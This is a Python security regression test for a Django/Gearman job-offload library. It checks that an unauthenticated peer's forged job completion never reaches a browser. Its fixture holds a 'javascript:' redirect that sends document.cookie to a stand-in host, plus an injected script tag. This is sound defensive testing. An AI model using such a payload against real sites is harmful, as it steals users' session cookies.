"""A host on gearmand's network answers a user's job with an outcome of its own.

Security review 3, finding 2. Gearman has no authentication: any host that reaches
gearmand may register as a worker, take a job and answer ``WORK_COMPLETE`` with
whatever it likes. The review's peer answered an offloaded request with a
``redirect`` of ``javascript:...`` beside a ``download``; the hub relayed the packet and
the widget followed it. Outcomes must come from the record, which only this site's
workers write (and commit before gearmand hears of them), never from the packet.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from channels.testing import WebsocketCommunicator
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.test import Client

from django_gearattach.models import Job, Status
from django_gearattach.testing import Gearmand, WorkerProcess
from django_gearattach.web.messages import OFFLOAD_FUNCTION
from tests.asgi import application
from tests.helpers import AttachThread, foreground_clients, wait_until
from tests.rawgearman import ForgingPeer
from tests.web.test_offload import started

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("hub")]

pytest_plugins = ["tests.webfixtures"]

#: What the review's peer sent: a download (so the widget navigates once) and a
#: ``javascript:`` redirect (which it then followed as well), and a page for good measure.
FORGED = json.dumps(
    {
        "status": 200,
        "content_type": "text/csv",
        "download": {"name": "statement.csv", "size": 9, "path": "gearattach/downloads/x/y"},
        "redirect": "javascript:fetch('https://evil.example/?c='+document.cookie)",
        "html": "<script>document.title='pwned'</script>",
    }
).encode()


def _signed_in_request() -> tuple[Job, str, str]:
    user = User.objects.create_user("victim", password="pw")
    browser = Client()
    browser.force_login(user)
    job, token = started(browser.get("/offload/sync/", {"colour": "teal"}))
    cookie = f"{django_settings.SESSION_COOKIE_NAME}={browser.session.session_key}"
    return job, token, cookie


async def _until_close(socket: WebsocketCommunicator) -> list[dict[str, Any]]:
    received: list[dict[str, Any]] = []
    while True:
        output = await socket.receive_output(60)
        if output["type"] == "websocket.close":
            assert output.get("code", 1000) == 1000, output
            return received
        received.append(json.loads(output["text"]))


async def test_a_forged_work_complete_never_reaches_a_browser_or_an_attacher(
    gearmand: Gearmand, worker_factory: Callable[..., WorkerProcess]
) -> None:
    # The user's request waits in gearmand: no worker of this site has started yet.
    job, token, cookie = await sync_to_async(_signed_in_request)()
    socket = WebsocketCommunicator(
        application, f"/ws/gearattach/{token}/", [(b"cookie", cookie.encode())]
    )
    assert (await socket.connect(timeout=5))[0]
    attacher = AttachThread(OFFLOAD_FUNCTION, job.key, timeout=60)
    attacher.start()
    await asyncio.to_thread(
        wait_until,
        lambda: foreground_clients(gearmand.address, job.key) >= 2,
        what="the hub and attach() to join the job",
    )
    # The peer takes the job and answers it, as the review's did.
    peer = await asyncio.to_thread(ForgingPeer, gearmand.address, OFFLOAD_FUNCTION)
    handle, unique, _ = await asyncio.to_thread(peer.take)
    assert unique == job.key.encode()
    await asyncio.to_thread(peer.complete, handle, FORGED)
    await asyncio.to_thread(peer.close)
    # This site's worker comes up and runs the job from its record, which nothing forged.
    assert (await Job.objects.aget(pk=job.pk)).status == Status.QUEUED
    await sync_to_async(worker_factory)([gearmand])

    messages = await _until_close(socket)
    text = json.dumps(messages)
    assert "javascript:" not in text
    assert "pwned" not in text
    assert "statement.csv" not in text
    outcome = messages[-1]
    assert outcome["type"] == "complete"
    assert 'id="colour">teal<' in outcome["html"]  # the view's own page, from the record
    events = await asyncio.to_thread(attacher.result)
    assert events[-1].event == "complete"
    assert "javascript:" not in json.dumps([e.as_dict() for e in events])
    record = await Job.objects.aget(pk=job.pk)
    assert record.status == Status.COMPLETE
    assert events[-1].result == record.result


@pytest.mark.parametrize("answer", ["fail", "exception"])
async def test_a_forged_failure_is_not_the_outcome_either(
    gearmand: Gearmand, worker_factory: Callable[..., WorkerProcess], answer: str
) -> None:
    job, token, cookie = await sync_to_async(_signed_in_request)()
    socket = WebsocketCommunicator(
        application, f"/ws/gearattach/{token}/", [(b"cookie", cookie.encode())]
    )
    assert (await socket.connect(timeout=5))[0]
    await asyncio.to_thread(
        wait_until,
        lambda: foreground_clients(gearmand.address, job.key) >= 1,
        what="the hub to join",
    )
    peer = await asyncio.to_thread(ForgingPeer, gearmand.address, OFFLOAD_FUNCTION)
    handle, _, _ = await asyncio.to_thread(peer.take)
    if answer == "fail":
        await asyncio.to_thread(peer.fail, handle)
    else:
        await asyncio.to_thread(peer.exception, handle, b"<b>your session expired</b>")
    await asyncio.to_thread(peer.close)
    await sync_to_async(worker_factory)([gearmand])
    messages = await _until_close(socket)
    assert [m["type"] for m in messages if m["type"] in ("complete", "failed")] == ["complete"]
    assert "session expired" not in json.dumps(messages)
